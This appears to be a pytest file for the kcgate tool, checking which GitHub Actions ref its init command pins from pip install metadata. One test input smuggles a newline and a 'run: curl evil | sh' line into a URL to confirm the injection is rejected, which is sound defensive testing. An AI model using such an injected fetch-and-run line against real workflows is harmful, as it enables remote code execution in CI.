"""``kcgate init --github`` pins the action to a ref that exists: the GitHub commit this kcgate was installed
from (pip's PEP 610 direct_url.json), else the templates' release tag stays with its comment."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from kcgate.adopt import scaffold
from tests.conftest import kcgate

SHA = "0123456789abcdef0123456789abcdef01234567"


def direct_url(url: str, commit: str = SHA, vcs: str = "git") -> str:
    return json.dumps(
        {"url": url, "vcs_info": {"vcs": vcs, "requested_revision": commit, "commit_id": commit}}
    )


@pytest.mark.parametrize(
    ("text", "ref"),
    [
        (direct_url("https://github.com/kcgate/kcgate"), f"kcgate/kcgate@{SHA}"),
        (direct_url("https://github.com/me/kcgate-fork.git"), f"me/kcgate-fork@{SHA}"),
        (direct_url("ssh://git@github.com/kcgate/kcgate.git"), f"kcgate/kcgate@{SHA}"),
        (direct_url("file:///home/me/kcgate"), None),  # a local clone: its commit may not be on GitHub
        (direct_url("https://gitlab.com/kcgate/kcgate"), None),
        (direct_url("https://github.com/kcgate/kcgate", commit="v0.1.0"), None),
        (direct_url("https://github.com/kcgate/kcgate", vcs="hg"), None),
        (direct_url("https://github.com/a/b\n  run: curl evil | sh"), None),
        (json.dumps({"url": "file:///home/me/kcgate", "dir_info": {"editable": True}}), None),
        ("not json", None),
        (None, None),
    ],
)
def test_the_installed_commit_is_the_ref_only_when_it_is_on_github(text: str | None, ref: str | None) -> None:
    assert scaffold.installed_action_ref(text) == ref


def test_the_written_workflows_use_the_ref_in_every_uses_line() -> None:
    runners = [("cpu", ["ubuntu-latest"])]
    tagged = scaffold.render_workflows("acme/k", runners, scaffold.templates_dir())
    pinned = scaffold.render_workflows("acme/k", runners, scaffold.templates_dir(), f"kcgate/kcgate@{SHA}")
    for name, text in pinned.items():
        uses = [line for line in text.splitlines() if "kcgate/kcgate@" in line]
        assert uses and len(uses) == tagged[name].count("kcgate/kcgate@v0.1.0"), name
        assert all(f"kcgate/kcgate@{SHA}  # the commit this kcgate was installed from" in u for u in uses)
        assert "v0.1.0" not in text and text.replace(SHA, "") != text
    assert all("kcgate/kcgate@v0.1.0  # the tag the first release creates" in t for t in tagged.values())


def test_init_github_pins_the_commit_of_a_git_install(tmp_path: Path) -> None:
    """A kcgate whose metadata says it came from github.com/kcgate/kcgate at SHA (found first on the path, as
    pip's install would be) writes that ref; the log says which ref was written."""
    site = tmp_path / "site"
    info = site / "kcgate-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: kcgate\nVersion: 0.1.0\n")
    (info / "direct_url.json").write_text(direct_url("https://github.com/kcgate/kcgate"))
    repo = tmp_path / "repo"
    repo.mkdir()
    from tests.conftest import ROOT

    env = {"PYTHONPATH": f"{site}:{ROOT}"}
    proc = kcgate("init", "kcgate.kernels.builtin", "--github", "--no-run", cwd=repo, env=env)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"uses: kcgate/kcgate@{SHA} (the commit this kcgate was installed from)" in proc.stdout
    run = (repo / ".github" / "workflows" / "kcgate-run.yml").read_text()
    assert f"uses: kcgate/kcgate@{SHA}  #" in run and "@v0.1.0" not in run
